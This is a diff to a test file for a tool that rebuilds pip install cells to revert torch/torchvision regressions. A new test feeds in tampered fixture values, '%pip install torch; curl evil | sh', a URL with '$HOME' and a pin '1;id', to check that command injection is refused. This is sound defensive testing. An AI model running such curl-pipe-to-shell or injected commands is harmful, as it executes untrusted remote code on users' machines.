@@ -149,7 +149,10 @@ describe('regression guard', () => {
       { name: 'torchvision', verified: '0.29.1+cu130', now: null }
     ]);
     const back = revertPlan(reg!, now);
-    expect(back.cell).toBe(verified.cell);
+    // Rebuilt from the stored builds, not the stored text replayed.
+    expect(back.cell).toBe(
+      '%pip install torch==2.14.1+cu130 torchvision==0.29.1+cu130 --index-url https://download.pytorch.org/whl/cu130'
+    );
     expect(back.indexUrl).toBe('https://download.pytorch.org/whl/cu130');
     expect(back.expect).toEqual({
       packages: verified.packages,
@@ -161,6 +164,33 @@ describe('regression guard', () => {
       version: '2.14.1+cu130',
       replaces: '2.13.0+cpu'
     });
+  });
+
+  it('rebuilds the revert cell from pins and refuses what is not plain', () => {
+    const now = merge(loadBase('real-torch-cpu'), {
+      python: { executable: verified.executable }
+    });
+    const tampered = {
+      ...verified,
+      cell: '%pip install torch; curl evil | sh',
+      indexUrl: 'https://m.example/whl?a=1&b=2',
+      pins: { torch: '2.14.1+cu130' }
+    };
+    const back = revertPlan(detectRegression(tampered, now)!, now);
+    expect(back.cell).toBe(
+      "%pip install torch==2.14.1+cu130 --index-url 'https://m.example/whl?a=1&b=2'"
+    );
+    const bad = revertPlan(
+      detectRegression({ ...tampered, indexUrl: 'https://m/$HOME' }, now)!,
+      now
+    );
+    expect(bad.cell).toBe('');
+    expect(english(bad.warnings[0])).toContain('$');
+    const badPin = revertPlan(
+      detectRegression({ ...tampered, pins: { torch: '1;id' } }, now)!,
+      now
+    );
+    expect(badPin.cell).toBe('');
   });
 
   it('stays quiet for the same build, or another interpreter', () => {
